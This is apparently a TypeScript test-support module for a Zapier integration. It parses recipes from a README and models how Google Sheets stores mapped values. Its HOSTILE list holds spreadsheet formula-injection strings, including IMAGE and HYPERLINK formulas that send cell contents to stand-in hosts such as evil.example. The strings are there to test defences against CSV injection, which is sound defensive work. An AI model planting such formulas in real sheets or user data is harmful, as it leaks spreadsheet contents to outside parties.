/**
 * What the suites of zapier/README.md's recipes share (recipes.test.ts, recipe-alert.test.ts,
 * recipe-benchmark.test.ts): the recipes read from the README itself, the labels they map resolved
 * against the built definition, and the row Google Sheets' *Create Spreadsheet Row* makes of mapped
 * values. Google Sheets enters those values as if typed (Sheets API `USER_ENTERED`); the Apps Script
 * stand-in's model of typed input (scripts/gas-standin/services/cellInput.ts) says what each cell
 * becomes.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { enterValue } from '../../scripts/gas-standin/services/cellInput';
import { app } from './support';

/** Text a spreadsheet would run or change (OWASP's CSV injection starts), and a plain one. */
export const HOSTILE = [
  '=IMAGE("https://x.example/?"&A1)',
  '=HYPERLINK("https://evil.example/?"&B2,"win")',
  '+1',
  '@SUM(1)',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  'A plain caption #veganrecipes',
];

/** The text a cell shows for `s` written through a safe twin (a lone CR becomes the twin's line feed). */
export const asTyped = (s: string) => s.replace(/\r(?!\n)/g, '\n');

export interface Recipe {
  title: string;
  text: string;
}

/** The README's recipes under `heading` (a `## ` heading): a bold title and its steps' text each. */
export function readmeRecipes(heading: string): Recipe[] {
  const readme = readFileSync(join(__dirname, '..', 'README.md'), 'utf8');
  const parts = readme.split(`\n${heading}\n`);
  if (parts.length !== 2) throw new Error(`zapier/README.md has no single "${heading}"`);
  return parts[1]
    .split('\n## ')[0]
    .split(/\n(?=\*\*)/)
    .filter((b) => b.startsWith('**'))
    .map((b) => ({ title: b.slice(2, b.indexOf('**', 2)), text: b }));
}

/** A recipe's numbered steps, each on one line (the README wraps them). */
export const stepsOf = (text: string): string[] =>
  text
    .split(/\n(?=\d+\. )/)
    .filter((s) => /^\d+\. /.test(s))
    .map((s) => s.replace(/\s+/g, ' ').trim());

/** `{{Label}}` in a template, as Zapier shows a mapped field. */
export const mappedInTemplate = (template: string): string[] =>
  [...template.matchAll(/\{\{([^}]+)\}\}/g)].map((m) => m[1]);

type Step = { display: { label: string }; operation: { outputFields: { key: string; label: string }[] } };

/** The built definition's step of a kind (`triggers`, `searches`) by its label in the Zap editor. */
export function stepLabelled(kind: 'triggers' | 'searches', label: string): { key: string; step: Step } {
  const found = Object.entries(app[kind] as Record<string, Step>).filter(([, s]) => s.display.label === label);
  if (found.length !== 1) throw new Error(`no single ${kind} labelled "${label}" in the built integration`);
  return { key: found[0][0], step: found[0][1] };
}

/** The output key of each label the step offers. */
export const keysByLabel = (step: Step) => new Map(step.operation.outputFields.map((f) => [f.label, f.key]));

/** An item's value at a Zapier output key (`author__username`: nested objects joined by `__`). */
export const valueAt = (item: Record<string, any>, key: string): unknown =>
  key.split('__').reduce<any>((v, k) => (v === null || v === undefined ? v : v[k]), item);

/** A template as Zapier fills it: each `{{Label}}` replaced by the item's value at its key, as text. */
export function render(template: string, item: Record<string, any>, keys: Map<string, string>): string {
  return template.replace(/\{\{([^}]+)\}\}/g, (_, label: string) => {
    const v = valueAt(item, keys.get(label)!);
    return v === null || v === undefined ? '' : String(v);
  });
}

/** The row as Google Sheets stores it: each value entered as if typed (en_US, UTC). */
export const enteredRow = (values: unknown[]) => values.map((v) => enterValue(v, '', 'UTC'));
